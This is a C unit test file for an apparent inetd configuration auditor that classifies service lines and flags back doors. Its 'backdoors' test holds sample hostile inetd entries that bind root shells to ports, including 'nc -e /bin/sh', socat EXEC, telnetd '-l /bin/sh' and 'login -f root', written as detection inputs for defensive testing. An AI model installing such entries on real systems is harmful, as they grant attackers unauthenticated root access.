#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>

#include <cmocka.h>
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "batten/catalogue.h"
#include "batten/entry.h"
#include "batten/match.h"
#include "batten/mem.h"
#include "batten/netdb.h"
#include "batten/source.h"
#include "batten/starter.h"

/* In place of the real table: nothing here asks it. */
const struct starter *const *starters(size_t *n)
{
    *n = 0;
    return NULL;
}

/* An entry from the words of a plain inetd line, cut at blanks as openbsd-inetd cuts it. */
struct line {
    char *copy;
    char *words[256];
    struct entry e;
};

static bool line_read(struct line *l, const char *text)
{
    char *rest, *word;
    size_t n = 0;

    memset(l, 0, sizeof(*l));
    l->copy = mem_strdup(text);
    for (word = strtok_r(l->copy, " \t\r\n", &rest); word != NULL && n < ARRAY_LEN(l->words) - 1;
         word = strtok_r(NULL, " \t\r\n", &rest))
        l->words[n++] = word;
    l->e.argv = &l->words[n];
    if (n < 6)
        return false;
    l->e.name = l->words[0];
    l->e.proto = l->words[2];
    l->e.user = l->words[4];
    if (strcmp(l->words[5], "internal") != 0) {
        l->e.program = l->words[5];
        l->e.argv = &l->words[6];
    }
    if (strncmp(l->e.proto, "rpc/", 4) == 0)
        l->e.rpc = l->e.name;
    l->e.enabled = true;
    return true;
}

static const char *service_of(const char *text)
{
    struct line l;
    const struct service *s;

    assert_true(line_read(&l, text));
    s = match_entry(&l.e, NULL);
    free(l.copy);
    return s != NULL ? s->name : "none";
}

static bool backdoor_of(const char *text)
{
    struct line l;
    bool b;

    assert_true(line_read(&l, text));
    b = match_backdoor(&l.e);
    free(l.copy);
    return b;
}

struct expect {
    const char *line;
    const char *service;
};

static void services(void **state)
{
    static const struct expect all[] = {
        {"telnet stream tcp nowait root /usr/sbin/in.telnetd in.telnetd",                      "telnet"    },
        {"2323 stream tcp nowait root /usr/sbin/in.telnetd in.telnetd",                        "telnet"    },
        {"2323 stream tcp nowait root /usr/sbin/tcpd in.telnetd",                              "telnet"    },
        {"2323 stream tcp nowait root /usr/sbin/tcpd /usr/sbin/in.telnetd",                    "telnet"    },
        {"2323 stream tcp nowait root /usr/sbin/tcpd tcpd /usr/sbin/in.telnetd -h",            "telnet"    },
        {"2323 stream tcp nowait root /bin/busybox telnetd -i",                                "telnet"    },
        {"2323 stream tcp nowait root /bin/busybox busybox telnetd -i",                        "telnet"    },
        {"2323 stream tcp nowait root /usr/sbin/tcpd /bin/busybox telnetd -i",                 "telnet"    },
        {"x stream tcp nowait root /usr/bin/env env -i PATH=/bin A=b /usr/sbin/in.fingerd",
         "finger"                                                                                          },
        {"x stream tcp nowait root /usr/bin/nice nice -n 5 in.fingerd -w",                     "finger"    },
        {"x stream tcp nowait root /usr/sbin/chroot chroot /var/ftp /bin/ftpd -A",             "ftp"       },
        {"x stream tcp nowait root /bin/su su - nobody -c /usr/sbin/imapd",                    "imap"      },
        {"x stream tcp nowait root /bin/sh sh -c 'exec in.telnetd -h'",                        "telnet"    },
        {"x stream tcp nowait root /bin/sh sh -c \"ulimit -t 5; A=1 exec tcpd in.rshd\"",      "shell"     },
        {"x stream tcp nowait root /sbin/start-stop-daemon ssd -S -x /usr/sbin/vsftpd -- -o",
         "ftp"                                                                                             },
        {"x stream tcp nowait root /usr/sbin/stunnel stunnel -p a -l /usr/sbin/ipop3d ipop3d",
         "pop"                                                                                             },
        {"pop3s stream tcp nowait root /usr/sbin/stunnel stunnel -l /usr/sbin/ipop3d ipop3d",
         "pops"                                                                                            },
        {"imaps stream tcp nowait root /usr/sbin/imapd imapd",                                 "imaps"     },
        {"993 stream tcp nowait root /usr/sbin/tcpd imapd",                                    "imaps"     },
        {"imap2 stream tcp nowait root /usr/sbin/tcpd /usr/sbin/imap4d --inetd",               "imap"      },
        {"imap3 stream tcp nowait root /opt/mail/serve serve",                                 "imap"      },
        {"pop-2 stream tcp nowait root /opt/mail/serve serve",                                 "pop"       },
        {"kpop stream tcp nowait root /usr/kerberos/popper popper -k",                         "pop"       },
        {"79 stream tcp nowait nobody /opt/f f",                                               "finger"    },
        {"ntalk dgram udp wait root /usr/libexec/ntalkd ntalkd",                               "talk"      },
        {"time dgram udp wait root internal",                                                  "time"      },
        {"comsat dgram udp wait root /usr/libexec/comsat comsat",                              "comsat"    },
        {"rstatd/1-3 dgram rpc/udp wait root /usr/libexec/rpc.rstatd rpc.rstatd",              "rstatd"    },
        {"walld/1 dgram rpc/udp wait root /x/y y",                                             "rwalld"    },
        {"100083/1 stream rpc/tcp wait root /usr/dt/bin/x x",                                  "ttdbserver"},
        {"smtp stream tcp nowait qmaild tcp-env tcp-env /var/qmail/bin/qmail-smtpd",           "smtp"      },
        {"ssh stream tcp nowait root /usr/sbin/sshd sshd -i",                                  "ssh"       },
        {"2222 stream tcp nowait root /usr/sbin/dropbear dropbear -i",                         "ssh"       },
        {"tcpmux/+date stream tcp nowait nobody /bin/date date",                               "none"      },
        {"4210 stream tcp nowait root /usr/local/bin/acq400_stream acq400_stream",             "none"      },
        {"backup stream tcp nowait root /bin/cat cat /etc/motd",                               "none"      },
        {"/tmp/sock stream unix nowait root /bin/cat cat",                                     "none"      },
        {"wrapped stream tcp nowait root /opt/bin/guard in.telnetd",                           "telnet"    },
    };

    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(all); i++) {
        const char *got = service_of(all[i].line);

        if (strcmp(got, all[i].service) != 0)
            fail_msg("%s: is %s, want %s", all[i].line, got, all[i].service);
    }
}

/* A name that only the root's own services file knows. */
static void service_by_root_names(void **state)
{
    static const char services_file[] = "secret 23/tcp\n";
    struct netdb *db = netdb_new();
    struct line l;

    (void)state;
    netdb_add(db, NETDB_SERVICES, services_file, sizeof(services_file) - 1);
    line_read(&l, "secret stream tcp nowait root /opt/s s");
    assert_string_equal(match_entry(&l.e, db)->name, "telnet");
    assert_null(match_entry(&l.e, NULL));
    free(l.copy);
    netdb_free(db);
}

static void backdoors(void **state)
{
    static const char *const all[] = {
        "ingreslock stream tcp nowait root /bin/sh sh -i",
        "ingreslock stream tcp nowait root /bin/bash bash -i",
        "31337 stream tcp nowait root /bin/sh",
        "31337 stream tcp nowait root /bin/sh sh",
        "31337 stream tcp nowait root /bin/bash bash --norc -i",
        "31337 stream tcp nowait root /usr/sbin/tcpd /bin/sh -i",
        "31337 stream tcp nowait root /bin/busybox sh",
        "31337 stream tcp nowait root /bin/busybox busybox ash -i",
        "31337 stream tcp nowait root /usr/bin/env env /bin/ksh -s",
        "31337 stream tcp nowait root /bin/sh /usr/local/bin/script",
        "31337 stream tcp nowait root /bin/sh sh /dev/stdin",
        "31337 stream tcp nowait root /bin/sh sh -c /bin/sh",
        "31337 stream tcp nowait root /bin/sh sh -c 'exec /bin/bash -i'",
        "31337 stream tcp nowait root /bin/sh sh -c 'read c; eval $c'",
        "31337 stream tcp nowait root /bin/sh sh -c 'read c; $c'",
        "31337 stream tcp nowait root /bin/sh sh -c 'cat | sh'",
        "telnet stream tcp nowait root telnetd telnetd -i -l /bin/sh",
        "telnet stream tcp nowait root /usr/sbin/telnetd telnetd -l/bin/ash",
        "telnet stream tcp nowait root /bin/busybox telnetd -il /bin/sh",
        "telnet stream tcp nowait root /usr/sbin/telnetd telnetd --exec-login=/bin/bash",
        "4444 stream tcp nowait root /bin/nc nc -e /bin/sh 10.0.0.1 1",
        "4444 stream tcp nowait root /usr/bin/ncat ncat --sh-exec /bin/bash",
        "4444 stream tcp nowait root /usr/bin/socat socat - EXEC:/bin/bash,pty",
        "4444 stream tcp nowait root /usr/bin/perl perl -e 'exec \"/bin/sh\"'",
        "4444 stream tcp nowait root /usr/bin/perl perl",
        "4444 stream tcp nowait root /usr/bin/python3 python3 -c 'import pty;pty.spawn(\"sh\")'",
        "4444 stream tcp nowait root /usr/bin/python3 /home/x/app.py",
        "4444 stream tcp nowait root /bin/su su - root",
        "4444 stream tcp nowait root /bin/login login -f root",
    };

    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(all); i++) {
        if (!backdoor_of(all[i]))
            fail_msg("not seen: %s", all[i]);
    }
}

static void no_backdoors(void **state)
{
    static const char *const all[] = {
        "backup stream tcp nowait root /bin/sh sh /usr/local/bin/script",
        "backup stream tcp nowait root /bin/sh sh -e /usr/local/bin/script",
        "backup stream tcp nowait root /bin/bash bash --norc -o pipefail /usr/bin/x",
        "backup stream tcp nowait root /usr/local/bin/script.sh",
        "jetdirect stream tcp nowait root /usr/libexec/tcpd /bin/sh -c \"(cat ;sleep 0.5) | "
        "/usr/bin/nc -N 172.28.1.40 8000\"",
        "jetdirect stream tcp nowait root /usr/bin/nc nc -N 172.28.1.40 8000",
        "x stream tcp nowait root /bin/sh sh -c 'exec in.telnetd -h'",
        "telnet stream tcp nowait root /usr/sbin/in.telnetd in.telnetd -h",
        "telnet stream tcp nowait root /bin/busybox telnetd -l /bin/login -i",
        "app stream tcp nowait ect /usr/bin/python3 python3 /home/ect/apps/app.py",
        "app stream tcp nowait ect /usr/bin/python3 python3 -m http.server",
        "app stream tcp nowait ect /usr/bin/perl perl -w /usr/local/bin/app.pl",
        "app stream tcp nowait ect /usr/bin/perl perl -e 'print \"hello\"'",
        "app stream tcp nowait ect /usr/bin/awk awk -f /usr/local/lib/app.awk",
        "cat stream tcp nowait root /bin/cat cat",
        "x stream tcp nowait root /bin/su su - nobody -c /usr/sbin/imapd",
        "shell stream tcp nowait root /usr/sbin/in.rshd in.rshd",
        "time stream tcp nowait root internal",
        "80 stream tcp nowait root busybox httpd -h /www -i",
    };

    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(all); i++) {
        if (backdoor_of(all[i]))
            fail_msg("falsely seen: %s", all[i]);
    }
}

/* Text that is made to be slow or deep ends all the same. */
static void hostile(void **state)
{
    size_t size = 60000;
    char *text = mem_alloc(size + 100);
    size_t n = (size_t)snprintf(text, 100, "x stream tcp nowait root /bin/sh sh -c '");

    (void)state;
    while (n < size)
        n += (size_t)snprintf(text + n, 40, "sh -c \"env nice sh -c (;");
    backdoor_of(text);
    service_of(text);
    n = (size_t)snprintf(text, 100, "x stream tcp nowait root /usr/bin/env");
    for (int i = 0; i < 200; i++)
        n += (size_t)snprintf(text + n, 40, " env");
    assert_false(backdoor_of(text));
    assert_false(backdoor_of("x stream tcp nowait root /bin/sh sh -c '\"\\"));
    backdoor_of("x stream tcp nowait root /bin/sh sh -c");
    backdoor_of("x stream tcp nowait root tcpd tcpd");
    backdoor_of("x stream tcp nowait root / /");
    backdoor_of("x stream tcp nowait root stunnel -l");
    free(text);
}

/* ---- the corpus ---- */

static const char *corpus(void)
{
    const char *dir = getenv("BATTEN_CORPUS");

    return dir != NULL ? dir : "../shared/corpus";
}

/* Every back door in the collected files, found by reading each line that names a shell or an
 * interpreter; the python lines give the script as argv[0], so that python reads the network. */
static const char *const corpus_backdoors[] = {
    "bash bash -i",       "telnetd -i -l /bin/bash",          "telnetd -i -l /bin/sh",
    "telnetd -l /bin/sh", "/usr/bin/python3 /home/ect/apps/",
};

static bool is_known_backdoor(const char *line)
{
    char squeezed[1024];
    size_t n = 0;

    for (; *line != '\0' && n < sizeof(squeezed) - 1; line++) {
        char ch = *line == '\t' ? ' ' : *line;

        if (ch != ' ' || n == 0 || squeezed[n - 1] != ' ')
            squeezed[n++] = ch;
    }
    squeezed[n] = '\0';
    for (size_t i = 0; i < ARRAY_LEN(corpus_backdoors); i++) {
        if (strstr(squeezed, corpus_backdoors[i]) != NULL)
            return true;
    }
    return false;
}

static unsigned check_file(const char *path)
{
    FILE *f = fopen(path, "r");
    char line[8192];
    unsigned found = 0;

    assert_non_null(f);
    while (fgets(line, sizeof(line), f) != NULL) {
        struct line l;

        if (line[0] == '#')
            continue;
        if (line_read(&l, line)) {
            bool got = match_backdoor(&l.e);

            if (got != is_known_backdoor(line))
                fail_msg("%s: %s: back door %d", path, line, got);
            found += got;
        }
        free(l.copy);
    }
    fclose(f);
    return found;
}

static void corpus_shells(void **state)
{
    char path[4096];
    struct dirent *de;
    unsigned found = 0;
    DIR *dir;

    (void)state;
    snprintf(path, sizeof(path), "%s/inetd", corpus());
    dir = opendir(path);
    if (dir == NULL) {
        printf("# skip: no corpus at %s\n", path);
        skip();
    }
    while ((de = readdir(dir)) != NULL) {
        if (de->d_name[0] == '.')
            continue;
        snprintf(path, sizeof(path), "%s/inetd/%s", corpus(), de->d_name);
        found += check_file(path);
    }
    closedir(dir);
    assert_true(found >= 10);
}

static void corpus_services(void **state)
{
    char path[4096], line[8192];
    unsigned seen = 0;
    FILE *f;

    (void)state;
    snprintf(path, sizeof(path), "%s/LABELS.tsv", corpus());
    f = fopen(path, "r");
    if (f == NULL) {
        printf("# skip: no corpus at %s\n", path);
        skip();
    }
    while (fgets(line, sizeof(line), f) != NULL) {
        char *rest = line, *field[8];
        struct line l;

        for (size_t i = 0; i < ARRAY_LEN(field); i++)
            field[i] = strsep(&rest, "\t");
        if (field[7] == NULL || strcmp(field[0], "inetd") != 0 || strcmp(field[2], "none") == 0 ||
            strncmp(field[2], "other-", 6) == 0)
            continue;
        if (line_read(&l, field[5])) {
            const struct service *s = match_entry(&l.e, NULL);

            /* The labels know no imaps: its only line is labelled imap. */
            if (s == NULL || strncmp(s->name, field[2], strlen(field[2])) != 0)
                fail_msg("%s: %s is %s", field[1], field[5], s != NULL ? s->name : "none");
            seen++;
        }
        free(l.copy);
    }
    fclose(f);
    assert_true(seen > 100);
}

/* ---- findings ---- */

static void findings(void **state)
{
    static const char *const lines[] = {
        "echo stream tcp nowait root internal",
        "telnet stream tcp nowait root /usr/sbin/in.telnetd in.telnetd",
        "finger stream tcp nowait nobody /usr/sbin/in.fingerd in.fingerd",
        "31337 stream tcp nowait root /bin/sh sh -i",
        "mine stream tcp nowait root /opt/mine mine",
    };
    struct line l[ARRAY_LEN(lines)];
    struct entry *v[ARRAY_LEN(lines)];
    struct entries entries = {v, ARRAY_LEN(lines), 0};
    char path[] = "etc/inetd.conf";
    struct source source = {.path = path};
    struct findings f = {0};

    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(lines); i++) {
        assert_true(line_read(&l[i], lines[i]));
        l[i].e.source = &source;
        l[i].e.line = (unsigned)i + 1;
        v[i] = &l[i].e;
    }
    v[1]->enabled = false;
    findings_make(&f, &entries, NULL, NULL);
    assert_int_equal(f.n, 5);
    assert_ptr_equal(f.v[4].entry, v[4]);
    assert_int_equal(f.v[4].severity, SEVERITY_LOW);
    assert_int_equal(f.v[3].verdict, VERDICT_KEEP);
    findings_sort(&f);
    assert_true(f.v[0].backdoor);
    assert_int_equal(f.v[0].severity, SEVERITY_BACKDOOR);
    assert_string_equal(f.v[1].service->name, "telnet");
    assert_string_equal(f.v[2].service->name, "finger");
    assert_string_equal(f.v[3].service->name, "echo");
    assert_null(f.v[4].service);
    findings_release(&f);
    for (size_t i = 0; i < ARRAY_LEN(lines); i++)
        free(l[i].copy);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(services),        cmocka_unit_test(service_by_root_names),
        cmocka_unit_test(backdoors),       cmocka_unit_test(no_backdoors),
        cmocka_unit_test(hostile),         cmocka_unit_test(corpus_shells),
        cmocka_unit_test(corpus_services), cmocka_unit_test(findings),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
